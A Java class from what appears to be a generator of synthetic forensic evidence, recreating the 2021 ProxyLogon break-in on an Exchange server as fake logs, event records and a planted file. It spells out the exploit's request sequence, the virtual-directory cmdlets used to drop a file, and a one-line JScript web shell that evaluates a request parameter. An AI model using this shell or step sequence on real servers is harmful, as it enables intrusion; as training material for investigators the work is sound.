package org.wachtpost.inspect.generator;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;

/**
 * The break-in of March 2021 step by step, timed as in a published extract: about ten seconds from
 * the first request to the web shell.
 */
final class ProxyLogon {
  static final String SHELL_FOLDER = DayWriter.EXCHANGE + "/FrontEnd/HttpProxy/owa/auth/";
  private final Site site;
  private final Planting planting;
  private final Attacker attacker;

  ProxyLogon(Site site, Planting planting, Attacker attacker) {
    this.site = site;
    this.planting = planting;
    this.attacker = attacker;
  }

  /** Looks for a mailbox and its server: tells only whether the hole is open. */
  void look(Instant start) {
    attacker.forwardedHere(start, "/autodiscover/autodiscover.xml?#", Attacker.FIRST_AGENT, 200);
    attacker.forwardedHere(start.plusMillis(1_537), "/mapi/emsmdb/?#", Attacker.SCRIPT_AGENT, 200);
  }

  /** Look, session, shell: to the file written and the trace cleaned. */
  void breakIn(Instant start, String canary, String shellName, String parameter) {
    look(start);
    attacker.forwardedHere(
        start.plusMillis(4_048), "/ecp/proxyLogon.ecp?#", Attacker.SCRIPT_AGENT, 241);
    ddi(start.plusMillis(9_381), "GetObject", canary, "OABVirtualDirectory");
    attacker.controlPanel(
        start.plusMillis(9_227),
        "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;",
        "",
        canary);
    String url = "http://f/" + script(parameter);
    attacker.controlPanel(
        start.plusMillis(11_610),
        "Set-OabVirtualDirectory.ExternalUrl='" + url + "'.Identity='" + site.oabIdentity + "'",
        "",
        canary);
    ddi(start.plusMillis(11_900), "SetObject", canary, "OABVirtualDirectory");
    ddi(start.plusMillis(14_200), "SetObject", canary, "ResetOABVirtualDirectory");
    String name = site.server + "\\OAB (Default Web Site)";
    attacker.controlPanel(
        start.plusMillis(18_555),
        "Remove-OABVirtualDirectory.Force=$true.Identity='" + name + "'",
        "",
        canary);
    attacker.controlPanel(
        start.plusMillis(26_234),
        "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='"
            + site.server
            + "'.Role='ClientAccess'.InternalURL='https://"
            + site.fqdn
            + "/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy"
            + "\\OAB'",
        "",
        canary);
    ddi(start.plusMillis(27_100), "SetObject", canary, "OABVirtualDirectory");
    attacker.controlPanel(
        start.plusMillis(27_300),
        "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='" + site.oabIdentity + "'",
        "",
        canary);
    planting.files.put(SHELL_FOLDER + shellName, dump(url).getBytes(StandardCharsets.UTF_8));
  }

  /** What the same steps leave in the event logs. */
  private void events(Instant start, String url) {
    String identity = " -Identity \"" + site.oabIdentity + "\"";
    cmdlet(
        start.plusMillis(11_700),
        "Set-OabVirtualDirectory",
        "-ExternalUrl \"" + url.replace('"', '\'') + "\"" + identity);
    cmdlet(
        start.plusMillis(18_600),
        "Remove-OABVirtualDirectory",
        "-Force \"True\" -Identity \"" + site.server + "\\OAB (Default Web Site)\"");
    cmdlet(
        start.plusMillis(26_300),
        "New-OABVirtualDirectory",
        "-WebSiteName \"Default Web Site\" -Server \"" + site.server + "\" -Role \"ClientAccess\"");
    Instant error = start.plusMillis(16_700);
    planting.event(
        error,
        EventLogs.APPLICATION,
        EventLogs.classic(
            "MSExchange Control Panel",
            EventLogs.APPLICATION,
            error,
            4,
            2,
            List.of(
                site.domain + "/Users/Administrator",
                "https://" + site.fqdn + ":444/ecp/DDI/DDIService.svc/SetObject",
                "ADNoSuchObjectException")));
  }

  private void cmdlet(Instant time, String cmdlet, String parameters) {
    planting.event(
        time,
        EventLogs.MANAGEMENT,
        EventLogs.cmdletEvent(
            site,
            time,
            1,
            cmdlet,
            parameters,
            site.domain + "/Users/Administrator",
            "Exchange Control Panel",
            "MSExchangeECPAppPool"));
  }

  private void ddi(Instant time, String method, String canary, String schema) {
    attacker.forwardedHere(
        time,
        "/ecp/DDI/DDIService.svc/"
            + method
            + "?msExchEcpCanary="
            + canary
            + ".&schema="
            + schema
            + "#",
        Attacker.SCRIPT_AGENT,
        200);
  }

  /** The one-line shell that most of the intruders of 2021 used, from published samples. */
  static String script(String parameter) {
    return "<script language=\"JScript\" runat=\"server\">function Page_Load(){"
        + "ev"
        + "al(Request[\""
        + parameter
        + "\"],\"unsafe\");}</script>";
  }

  /** What Exchange writes when it resets a virtual directory: the settings, the URL among them. */
  private String dump(String url) {
    return """
    Name                            : OAB (Default Web Site)
    PollInterval                    : 480
    OfflineAddressBooks             :
    RequireSSL                      : True
    BasicAuthentication             : False
    WindowsAuthentication           : True
    OAuthAuthentication             : False
    MetabasePath                    : IIS://%s/W3SVC/1/ROOT/OAB
    Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB
    ExtendedProtectionTokenChecking : None
    ExtendedProtectionFlags         :
    ExtendedProtectionSPNList       :
    AdminDisplayVersion             : Version 15.1 (Build 2106.2)
    Server                          : %s
    InternalUrl                     : https://%s/OAB
    InternalAuthenticationMethods   : WindowsIntegrated
    ExternalUrl                     : %s
    ExternalAuthenticationMethods   : WindowsIntegrated
    AdminDisplayName                :
    ExchangeVersion                 : 0.10 (14.0.100.0)
    DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s
    Identity                        : %s\\OAB (Default Web Site)
    Guid                            : %s
    ObjectCategory                  : Schema/ms-Exch-OAB-Virtual-Directory
    IsValid                         : True
    """
        .formatted(
            site.fqdn, site.server, site.fqdn, url, site.server, site.server, site.oabIdentity)
        .replace("\n", "\r\n");
  }
}
